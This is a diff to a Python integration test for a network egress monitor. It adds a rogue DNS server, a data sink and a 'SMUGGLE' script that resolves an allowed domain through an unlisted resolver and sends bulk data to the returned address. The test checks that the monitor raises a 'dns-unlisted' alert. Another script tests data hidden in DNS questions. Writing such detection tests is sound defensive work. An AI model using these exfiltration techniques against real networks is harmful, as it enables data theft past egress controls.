@@ -9,6 +9,8 @@ from case import TWO_DPDK_QUEUES, SiteCase, main
 from world import PYTHON, SUPPORT, run, wait_for
 
 RESOLVER, EDGE, UNASKED = "5.9.10.20", "8.8.8.8", "8.8.8.77"  # in Germany; in the US, the last one known to no DNS
+ROGUE, DROP = "8.8.8.53", "8.8.8.66"  # a name server of the sender's own, and where it would like to send
+LISTED = f"names: {{resolvers: [{RESOLVER}]}}\n"
 ALLOWED, OTHER = "updates.example.org", "drop.example.net"
 TLS, HTTP = 9443, 9080
 BODY = 256 << 10
@@ -16,6 +18,25 @@ BODY = 256 << 10
 SERVE = """
 import http.server, socketserver
 socketserver.ThreadingTCPServer((%r, %d), http.server.SimpleHTTPRequestHandler).serve_forever()
+"""
+SINK = """
+import socketserver
+class Sink(socketserver.BaseRequestHandler):
+    def handle(self):
+        while self.request.recv(65536): pass
+socketserver.ThreadingTCPServer((%r, %d), Sink).serve_forever()
+"""
+# Asks a name server for a name, and sends to the address that it gives; no protocol shows a name.
+SMUGGLE = """
+import socket, struct
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+s.settimeout(5)
+s.connect((%r, 53))
+name = b"".join(bytes([len(label)]) + label.encode() for label in %r.split("."))
+s.send(struct.pack("!HHHHHH", 7, 0x100, 1, 0, 0, 0) + name + b"\\0\\0\\1\\0\\1")
+address = socket.inet_ntoa(s.recv(512)[-4:])
+with socket.create_connection((address, %d)) as out:
+    out.sendall(b"\\xee" * %d)
 """
 ASK = """
 import os, socket, struct
@@ -31,12 +52,15 @@ for i in range(%d):
 
 class Names(SiteCase):
     policy_source = SUPPORT / "names-policy.d"
+    settings = LISTED
 
     def setUp(self):
         super().setUp()
         site = self.site
         site.start("world", PYTHON, SUPPORT / "nameserver.py", RESOLVER, f"{ALLOWED}=edge.cdn.example",
                    f"edge.cdn.example={EDGE}", log="nameserver.log")
+        site.start("world", PYTHON, SUPPORT / "nameserver.py", ROGUE, f"{ALLOWED}={DROP}", log="rogue.log")
+        site.start("world", PYTHON, "-c", SINK % (DROP, HTTP), log="drop.log")
         run("openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes", "-days", "2",
             "-subj", f"/CN={ALLOWED}", "-keyout", site.dir / "key.pem", "-out", site.dir / "cert.pem")
         # -rev answers what it reads, and does not end a connection with its own standard input.
@@ -44,9 +68,10 @@ class Names(SiteCase):
             site.start("world", "openssl", "s_server", "-accept", f"{address}:{TLS}", "-quiet", "-rev", "-cert",
                        site.dir / "cert.pem", "-key", site.dir / "key.pem", log=f"tls-{address}.log")
         site.start("world", PYTHON, "-c", SERVE % (EDGE, HTTP), log="http.log")
-        wait_for("the name server", 5, lambda: "ready" in (site.dir / "nameserver.log").read_text())
+        for log in ("nameserver.log", "rogue.log"):
+            wait_for("the name server", 5, lambda log=log: "ready" in (site.dir / log).read_text())
         wait_for("the servers", 10, lambda: len(re.findall(f":(?:{TLS}|{HTTP}) ",
-                                                           site.run_in("world", "ss", "-lntH").stdout)) == 3)
+                                                           site.run_in("world", "ss", "-lntH").stdout)) == 4)
         (site.dir / "resolv.conf").write_text(f"nameserver {RESOLVER}\noptions attempts:1 timeout:5\n")
 
     def resolving(self, *argv):
@@ -112,6 +137,20 @@ class Names(SiteCase):
         self.assertIsNone(alert.get("destination.domain"))
         self.assertEqual(alert.get("network.protocol"), "tls")
 
+        # A name server of the sender's own calls another address by the allowed name.
+        mark = len(site.alerts.findings)
+        site.run_in("host", PYTHON, "-c", SMUGGLE % (ROGUE, ALLOWED, HTTP, BODY))
+        [alert] = self.alerts(mark, "not-allowed")
+        self.assertEqual((alert.group["remote"], alert.get("destination.domain")), (DROP, ALLOWED))
+        self.assertEqual(alert.get("egresswatch.name_source"), "dns-unlisted")
+        self.assertIn("only a name server that is not in names.resolvers says that the address is " + ALLOWED,
+                      alert.get("event.reason"))
+        flow = self.flow("the flow", lambda f: f["remote"] == DROP)["flow"]
+        self.assertEqual(flow["dns_names_unlisted"], [ALLOWED])
+        self.assertNotIn("dns_names", flow)
+        self.assertEqual(site.status()["names"]["dns_unlisted"], 1)
+        self.assertEqual(site.status()["names"]["resolvers"], [RESOLVER + "/32"])
+
         # Data in questions.
         mark = len(site.alerts.findings)
         site.run_in("host", PYTHON, "-c", ASK % (RESOLVER, 25))
@@ -143,7 +182,7 @@ class PcapNames(Names):
 class DpdkNames(Names):
     engine = "dpdk"
     offload = False
-    settings = TWO_DPDK_QUEUES.format(port="net_af_packet0")
+    settings = LISTED + TWO_DPDK_QUEUES.format(port="net_af_packet0")
 
     def test_names_on_the_dpdk_engine(self):
         self.play()
